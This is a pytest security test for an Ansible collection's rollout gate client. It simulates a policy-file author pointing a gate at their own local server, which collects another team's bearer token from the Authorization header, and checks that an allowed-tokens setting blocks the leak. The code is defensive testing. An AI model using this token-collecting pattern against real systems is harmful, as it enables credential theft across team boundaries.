# Copyright (c) 2026, the configok.node authors
# GNU General Public License v3.0 or later (see COPYING or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""Attacks by the author of a pool file, in a job that has the tokens of another team: on a server of the author."""

from __future__ import annotations

import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, HTTPServer
from pathlib import Path
from typing import Any

import pytest

from ansible_collections.configok.node.plugins.module_utils._rollout._gates.gate_client import (
    GateClient,
    access_errors,
)
from ansible_collections.configok.node.plugins.module_utils._rollout._pool.pool_file import parse_policy
from support.attacks.recorder import Recorder

SECRET = "of-another-team"


class Collector:
    """The author's server. stolen: the tokens that it was sent."""

    def __init__(self) -> None:
        self.stolen: list[str] = []
        collector = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                collector.stolen.append(str(self.headers["Authorization"]))
                self.send_response(200)
                self.send_header("Content-Length", "0")
                self.end_headers()

            def log_message(self, *_arguments: Any) -> None:
                pass

        self.server = HTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
        threading.Thread(target=self.server.serve_forever, args=(0.01,), daemon=True).start()


@pytest.fixture
def collector() -> Iterator[Collector]:
    started = Collector()
    yield started
    started.server.shutdown()
    started.server.server_close()


@pytest.mark.usefixtures("attacked_api")  # a row names its version
@pytest.mark.parametrize("what", ["the variable", "a file"])
def test_a_token_of_another_team(collector: Collector, attacks: Recorder, tmp_path: Path, what: str) -> None:
    token = tmp_path / "token"
    token.write_text(SECRET)
    access = {"tokenFile": str(token)} if what == "a file" else {"tokenVariable": "TEAM_B_TOKEN"}
    gates = parse_policy({"gates": [{"name": "shop", "url": {"url": collector.url, **access}}]}).gates.servers
    with attacks.attempt(f"a gate sends {what} of another team to its author's server", "allowed tokens") as attempt:
        for record, environ in (
            (attempt.off, {"TEAM_B_TOKEN": SECRET, "CONFIGOK_ALLOWED_TOKENS": "*:/"}),
            (attempt.on, {"TEAM_B_TOKEN": SECRET, "CONFIGOK_GATE_TEAM_A": "own"}),
        ):
            refused = access_errors(gates, environ)
            client = GateClient(environ)
            client.ask(gates[0])
            client.close()
            saw = "the server has the token" if collector.stolen else "refused before anything is published"
            record(len(collector.stolen), 1, "tokens", saw)
            assert bool(refused) is not bool(collector.stolen)
            assert collector.stolen in ([], [f"Bearer {SECRET}"])
            collector.stolen.clear()
